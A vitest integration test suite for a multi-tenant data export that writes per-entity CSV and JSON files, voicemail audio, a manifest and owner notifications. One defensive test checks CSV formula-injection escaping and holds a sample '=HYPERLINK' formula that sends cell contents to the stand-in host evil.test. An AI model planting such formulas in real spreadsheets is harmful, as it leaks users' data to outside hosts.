// The export's activities against the real database: every row exactly once in both formats, CSV
// quoting that survives a round trip, nothing of another tenant, no secrets, a suspended tenant
// exported like any other, and the owner told once however often the announcement runs.
import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_ENTITIES, type ExportManifest } from '../domain/export-entities.ts';
import { exportLinkKey, verifyExportLink } from '../domain/export-links.ts';
import { sampleVoicemailWav } from '../api/sandbox/sample-voicemail.ts';
import { forTenant } from '../prisma/tenant-db.ts';
import { uniqueId } from '../tests/stack.ts';
import { createTestApp, type TestApp } from '../tests/app-harness.ts';
import { FORMULA_TEXTS, SEALED_SIP_PASSWORD, seedExportTenant, TRICKY_TEXTS } from '../tests/export-fixtures.ts';
import { readZip } from '../tests/export-zip.ts';
import type { ExportActivities } from './contracts.ts';
import { createExportActivities } from './export.ts';
import { writeExportArchive as writeArchive, type ArchiveProgress } from './export-archive.ts';

type Row = Record<string, unknown>;

let t: TestApp;
let storageDir: string;
let exports: ExportActivities;
let a: Awaited<ReturnType<typeof seedExportTenant>>;
let b: Awaited<ReturnType<typeof seedExportTenant>>;
let exportId: string;
let written: Awaited<ReturnType<ExportActivities['writeExportArchive']>>;
let zip: Map<string, Buffer>;

beforeAll(async () => {
  storageDir = await mkdtemp(path.join(tmpdir(), 'exports-'));
  t = await createTestApp({ fakes: ['twilio'], env: { EXPORT_STORAGE_DIR: storageDir } });
  // Pages of 40 rows: every entity but settings spans several pages; recordings are read 4 kB at a time.
  exports = createExportActivities(t.deps, { pageSize: 40, audioChunkBytes: 4096 });
  a = await seedExportTenant(t.deps.db, { prefix: 'expa', status: 'suspended' });
  b = await seedExportTenant(t.deps.db, { prefix: 'expb', customers: 45 });
  ({ exportId } = await exports.createExportRecord({ tenantId: a.tenantId, reason: 'owner' }));
  written = await exports.writeExportArchive({ tenantId: a.tenantId, exportId });
  zip = await readZip(path.join(storageDir, written.fileName));
}, 60_000);
afterAll(async () => {
  await t?.close();
  if (storageDir) await rm(storageDir, { recursive: true, force: true });
});

const text = (name: string) => zip.get(name)!.toString('utf8');
const jsonRows = (entity: string) => JSON.parse(text(`${entity}.json`)) as Row[];
const csvRows = (entity: string) => parse(zip.get(`${entity}.csv`)!, { columns: true, bom: true, relax_quotes: false }) as Record<string, string>[];
const snake = (key: string) => key.replace(/[A-Z]/g, (c) => `_${c.toLowerCase()}`);
// Times are compared as instants: the export writes ISO 8601 in UTC.
const normal = (row: Row) =>
  Object.fromEntries(Object.entries(row).map(([k, v]) => [k, v instanceof Date ? v.toISOString() : k.endsWith('_at') && typeof v === 'string' ? new Date(v).toISOString() : v]));
/** A value as the CSV writes it: text a spreadsheet would run as a formula gets a leading quote (numbers stay numbers). */
const csvValue = (v: unknown) => {
  const cell = v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v);
  return typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${cell}` : cell;
};

/** The tenant's rows as Prisma reads them, keyed like the export's columns. */
async function dbRows(tenantId: string, entity: string): Promise<Row[]> {
  const tdb = forTenant(t.deps.db, tenantId);
  const delegates: Record<string, { findMany: (args?: object) => Promise<Row[]> }> = {
    customers: tdb.customer, vehicles: tdb.vehicle, services: tdb.service, resources: tdb.resource, bookings: tdb.booking,
    invoices: tdb.invoice, calls: tdb.call, voicemails: tdb.voicemail, messages: tdb.message,
  } as never;
  const columns = EXPORT_ENTITIES.find((e) => e.name === entity)!.columns.map((c) => c.name);
  const rows = await delegates[entity]!.findMany();
  return rows.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [snake(k), v])).valueOf() as Row).map((row) => Object.fromEntries(columns.map((c) => [c, row[c] ?? null])));
}

const byId = (rows: Row[]) => [...rows].sort((x, y) => String(x.id).localeCompare(String(y.id)));

describe('writeExportArchive', () => {
  it('writes one zip with a CSV and a JSON file per entity, a manifest and a README, at <storage>/<tenant>/<export>.zip', async () => {
    expect(written.fileName).toBe(`${a.tenantId}/${exportId}.zip`);
    const recordings = Object.keys(a.audio).map((id) => `voicemail-audio/${id}.wav`);
    expect([...zip.keys()].sort()).toEqual([...EXPORT_ENTITIES.flatMap((e) => [`${e.name}.csv`, `${e.name}.json`]), ...recordings, 'README.txt', 'manifest.json'].sort());
    expect(await readdir(path.join(storageDir, a.tenantId))).toEqual([`${exportId}.zip`]); // no .partial or scratch file left
    const manifest = JSON.parse(text('manifest.json')) as ExportManifest;
    expect(manifest).toMatchObject({ tenantId: a.tenantId, exportId, reason: 'owner', rowCounts: written.rowCounts });
    expect(manifest.businessName).toContain('Shine & Co');
    expect(text('README.txt')).toContain('customers');
  });

  it('counts what it writes: the counts agree with countExportRows and the seeded data', async () => {
    const counted = await exports.countExportRows({ tenantId: a.tenantId });
    expect(written.rowCounts).toEqual(counted.perEntity);
    expect(counted.total).toBe(Object.values(counted.perEntity).reduce((s, n) => s + n, 0));
    expect(written.rowCounts).toMatchObject({ customers: 230, vehicles: 120, services: 3, resources: 1, bookings: 260, invoices: 60, calls: 70, voicemails: 12, messages: 140, conversations: 55, settings: 1 });
  });

  it.each(['customers', 'vehicles', 'services', 'resources', 'bookings', 'invoices', 'calls', 'voicemails', 'messages'])(
    '%s: every row exactly once, JSON equal to the database, CSV equal to the JSON',
    async (entity) => {
      const json = jsonRows(entity);
      const csv = csvRows(entity);
      const expected = (await dbRows(a.tenantId, entity)).map(normal);
      expect(new Set(json.map((r) => r.id)).size).toBe(json.length);
      expect(byId(json.map(normal))).toEqual(byId(expected));
      const columns = EXPORT_ENTITIES.find((e) => e.name === entity)!.columns.map((c) => c.name);
      expect(Object.keys(csv[0]!)).toEqual(columns);
      expect(csv).toEqual(json.map((row) => Object.fromEntries(columns.map((c) => [c, csvValue(row[c])]))));
    },
  );

  it('holds the audio of every kept voicemail recording, byte for byte, named by the voicemail id (read a small chunk at a time)', async () => {
    expect(Object.keys(a.audio)).toHaveLength(3);
    for (const [id, bytes] of Object.entries(a.audio)) {
      expect(zip.get(`voicemail-audio/${id}.wav`)?.equals(bytes), id).toBe(true);
    }
    // Only this tenant's recordings.
    for (const id of Object.keys(b.audio)) expect(zip.has(`voicemail-audio/${id}.wav`)).toBe(false);
    const manifest = JSON.parse(text('manifest.json')) as ExportManifest;
    expect(manifest.recordings).toEqual({ folder: 'voicemail-audio', files: 3 });
    expect(text('README.txt')).toContain('voicemail-audio/');
    // The voicemails file says which have a transcript, and what it says.
    const transcribed = jsonRows('voicemails').filter((row) => row.transcript_status === 'done');
    expect(transcribed.map((row) => row.id).sort()).toEqual(Object.keys(a.audio).sort());
    expect(transcribed[0]!.transcript).toMatch(/^Words of voicemail \d, "quoted"$/);
  });

  it('a recording only Twilio still has is fetched into our copy for the export; one gone from Twilio does not stop it', async () => {
    const tenantId = uniqueId('exp-rec');
    await t.deps.db.tenant.create({ data: { id: tenantId, slug: tenantId, config: { create: { businessName: tenantId, tier: 'pro', status: 'suspended' } } } });
    const tdb = forTenant(t.deps.db, tenantId);
    const sid = () => `RE${randomBytes(16).toString('hex')}`;
    const atTwilio = await tdb.voicemail.create({ data: { callSid: 'CA-r1', recordingSid: sid(), recordingUrl: '', fromNumber: '+19185550111' } });
    const gone = await tdb.voicemail.create({ data: { callSid: 'CA-r2', recordingSid: sid(), recordingUrl: '', fromNumber: '+19185550112' } });
    t.twilio.deleteRecording(gone.recordingSid);
    const { exportId: id } = await exports.createExportRecord({ tenantId, reason: 'final' });
    const result = await exports.writeExportArchive({ tenantId, exportId: id });
    const files = await readZip(path.join(storageDir, result.fileName));
    expect(files.get(`voicemail-audio/${atTwilio.id}.wav`)?.equals(sampleVoicemailWav())).toBe(true);
    expect(files.has(`voicemail-audio/${gone.id}.wav`)).toBe(false);
    expect((JSON.parse(files.get('manifest.json')!.toString('utf8')) as ExportManifest).recordings.files).toBe(1);
    const { rows } = await t.adminSql('SELECT voicemail_id FROM voicemail_audio WHERE tenant_id = $1', [tenantId]);
    expect(rows).toEqual([{ voicemail_id: atTwilio.id }]); // kept for good, not only zipped
  });

  it('quotes commas, quotes, newlines and non-ASCII so they read back exactly (RFC 4180, UTF-8 with BOM)', async () => {
    const raw = zip.get('customers.csv')!;
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(raw.toString('utf8')).toContain('"Ann ""The Hammer"" Lee"');
    expect(raw.toString('utf8').split('\r\n')[0]).toBe('\uFEFFid,name,phone,email,address,notes,created_at,updated_at,last_contact_at');
    const names = csvRows('customers').map((r) => r.name);
    for (const tricky of TRICKY_TEXTS) expect(names).toContain(csvValue(tricky));
    expect(csvRows('messages').map((r) => r.body)).toEqual(expect.arrayContaining(TRICKY_TEXTS.map(csvValue)));
    expect(JSON.parse(csvRows('vehicles')[0]!.details!)).toEqual({ year: expect.any(Number), tags: ['a,b', 'ünï'] });
  });

  it('escapes cells a spreadsheet would run as a formula (= + - @, tab, CR) with a leading quote in the CSV; the JSON keeps them exactly', async () => {
    const csvBodies = csvRows('messages').map((r) => r.body);
    const jsonBodies = jsonRows('messages').map((r) => r.body);
    for (const formula of FORMULA_TEXTS) {
      expect(jsonBodies).toContain(formula);
      expect(csvBodies).toContain(`'${formula}`);
      expect(csvBodies).not.toContain(formula);
      expect(csvRows('customers').map((r) => r.name)).toContain(`'${formula}`);
    }
    expect(text('messages.csv')).toContain(`"'=HYPERLINK(""https://evil.test/?d=""&A1,""Click for your discount"")"`);
  });

  it('conversations: one row per number with counts, first/last text and the opt-out', async () => {
    const rows = jsonRows('conversations');
    expect(new Set(rows.map((r) => r.phone)).size).toBe(55);
    const messages = await dbRows(a.tenantId, 'messages');
    for (const row of rows) {
      const mine = messages.filter((m) => (m.direction === 'inbound' ? m.from_number : m.to_number) === row.phone);
      expect(row).toMatchObject({ messages: mine.length, inbound: mine.filter((m) => m.direction === 'inbound').length, opted_out: row.phone === a.optedOut });
      expect(new Date(row.last_message_at as string).getTime()).toBe(Math.max(...mine.map((m) => (m.created_at as Date).getTime())));
      expect(row.customer_id).toEqual(expect.any(String)); // every seeded counterpart is a customer
    }
    expect(csvRows('conversations').find((r) => r.phone === csvValue(a.optedOut))?.opted_out).toBe('true');
  });

  it('settings: the business and phone settings, without the SIP password', async () => {
    const [settings] = jsonRows('settings');
    expect(settings).toMatchObject({ tenant_id: a.tenantId, status: 'suspended', phone_number: a.phoneNumber, sip_username: 'owner-sip', business_hours: { mon: [['08:00', '17:00']] } });
    expect(Object.keys(settings!).some((k) => k.includes('password'))).toBe(false);
    for (const [name, content] of zip) expect(content.toString('utf8'), name).not.toContain(SEALED_SIP_PASSWORD);
  });

  it("holds no row of another tenant (row-level security and the tenant filter)", async () => {
    const bIds = new Set([...(await dbRows(b.tenantId, 'customers')), ...(await dbRows(b.tenantId, 'messages'))].map((r) => String(r.id)));
    expect(bIds.size).toBeGreaterThan(0);
    for (const [name, content] of zip) {
      const body = content.toString('utf8');
      expect(body, name).not.toContain(b.tenantId);
      for (const id of bIds) expect(body.includes(id), `${name} holds ${id}`).toBe(false);
    }
  });

  it('a retried attempt rewrites the zip cleanly, and a tenant with no records gets headers and empty arrays', async () => {
    const again = await exports.writeExportArchive({ tenantId: a.tenantId, exportId });
    expect(again.rowCounts).toEqual(written.rowCounts);
    expect(await readdir(path.join(storageDir, a.tenantId))).toEqual([`${exportId}.zip`]);

    const tenantId = `expempty-${exportId.slice(0, 8)}`;
    await t.deps.db.tenant.create({ data: { id: tenantId, slug: tenantId, config: { create: { businessName: 'Empty' } } } });
    const { exportId: emptyId } = await exports.createExportRecord({ tenantId, reason: 'owner' });
    const result = await exports.writeExportArchive({ tenantId, exportId: emptyId });
    const emptyZip = await readZip(path.join(storageDir, result.fileName));
    expect(result.rowCounts).toMatchObject({ customers: 0, messages: 0, conversations: 0, settings: 1 });
    expect(emptyZip.get('customers.csv')!.toString('utf8')).toBe('\uFEFFid,name,phone,email,address,notes,created_at,updated_at,last_contact_at\r\n');
    expect(JSON.parse(emptyZip.get('customers.json')!.toString('utf8'))).toEqual([]);
  });

  it('a cancelled write stops between pages and leaves no partial or scratch file behind', async () => {
    const { exportId: cancelledId } = await exports.createExportRecord({ tenantId: a.tenantId, reason: 'owner' });
    const stop = new AbortController();
    const seen: ArchiveProgress[] = [];
    const attempt = writeArchive({
      db: t.deps.db, storageDir, tenantId: a.tenantId, exportId: cancelledId, fileName: `${a.tenantId}/${cancelledId}.zip`, businessName: 'x', reason: 'owner', pageSize: 40,
      signal: stop.signal,
      onProgress: (p) => {
        seen.push(p);
        if (p.rowsDone >= 80) stop.abort(new Error('activity cancelled'));
      },
    });
    await expect(attempt).rejects.toThrow('activity cancelled');
    expect(seen.at(-1)).toEqual({ entity: 'customers', rowsDone: 80 });
    expect(await readdir(path.join(storageDir, a.tenantId))).toEqual([`${exportId}.zip`]);
  });

  it('refuses an export id that belongs to another tenant', async () => {
    await expect(exports.writeExportArchive({ tenantId: b.tenantId, exportId })).rejects.toMatchObject({ type: 'UnknownExport', nonRetryable: true });
  });
});

describe('completeExport, failExport and announceExport', () => {
  it('records the finished export, then emails every owner address and texts the owner once, with a working link', async () => {
    await exports.completeExport({ tenantId: a.tenantId, exportId, ...written });
    expect(await t.deps.db.dataExport.findUniqueOrThrow({ where: { id: exportId } })).toMatchObject({ status: 'ready', fileName: written.fileName, sizeBytes: BigInt(written.sizeBytes), completedAt: expect.any(Date) });

    const first = await exports.announceExport({ tenantId: a.tenantId, exportId, reason: 'owner' });
    const again = await exports.announceExport({ tenantId: a.tenantId, exportId, reason: 'owner' }); // a retried activity
    expect(first).toEqual({ emailed: [`${a.tenantId}@owner.test`], texted: true });
    expect(again.emailed).toEqual(first.emailed);

    const emails = await forTenant(t.deps.db, a.tenantId).emailMessage.findMany({ where: { idempotencyKey: { startsWith: `export:${exportId}:` } } });
    expect(emails.map((e) => [e.idempotencyKey, e.toAddress])).toEqual([[`export:${exportId}:announce:${a.tenantId}@owner.test`, `${a.tenantId}@owner.test`]]);
    expect(emails[0]!.subject).toContain('your data export is ready');
    const url = new URL(emails[0]!.body.match(/https?:\/\/\S+/)![0]);
    expect(url.origin + url.pathname).toBe(`${t.deps.config.PUBLIC_BASE_URL}/exports/${a.tenantId}/${exportId}/download`);
    expect(verifyExportLink({ tenantId: a.tenantId, exportId, expires: url.searchParams.get('expires') ?? undefined, sig: url.searchParams.get('sig') ?? undefined }, exportLinkKey(t.deps.masterKey))).toEqual({ ok: true });

    const owner = await t.deps.db.tenantPhoneConfig.findUniqueOrThrow({ where: { tenantId: a.tenantId } });
    const texts = t.twilio.messages().filter((m) => m.to === owner.ownerNotifyPhone);
    expect(texts).toHaveLength(1);
    expect(texts[0]!.body).toContain('data export');
  });

  it("the final export's wording says the account is closing and this is the complete data", async () => {
    const { exportId: finalId } = await exports.createExportRecord({ tenantId: a.tenantId, reason: 'final', exportId: crypto.randomUUID() });
    const again = await exports.createExportRecord({ tenantId: a.tenantId, reason: 'final', exportId: finalId });
    expect(again.exportId).toBe(finalId); // a retried record creation finds its row
    await exports.completeExport({ tenantId: a.tenantId, exportId: finalId, ...written });
    await exports.announceExport({ tenantId: a.tenantId, exportId: finalId, reason: 'final' });
    const [email] = await forTenant(t.deps.db, a.tenantId).emailMessage.findMany({ where: { idempotencyKey: { startsWith: `export:${finalId}:` } } });
    expect(email!.body).toMatch(/being closed/);
    expect(email!.body).toMatch(/complete data/);
  });

  it('failExport marks a running export failed with its reason; announcing an unfinished export is refused', async () => {
    const { exportId: doomed } = await exports.createExportRecord({ tenantId: a.tenantId, reason: 'owner' });
    await expect(exports.announceExport({ tenantId: a.tenantId, exportId: doomed, reason: 'owner' })).rejects.toMatchObject({ type: 'ExportNotReady' });
    await exports.failExport({ exportId: doomed, error: 'disk full' });
    expect(await t.deps.db.dataExport.findUniqueOrThrow({ where: { id: doomed } })).toMatchObject({ status: 'failed', error: 'disk full' });
  });
});
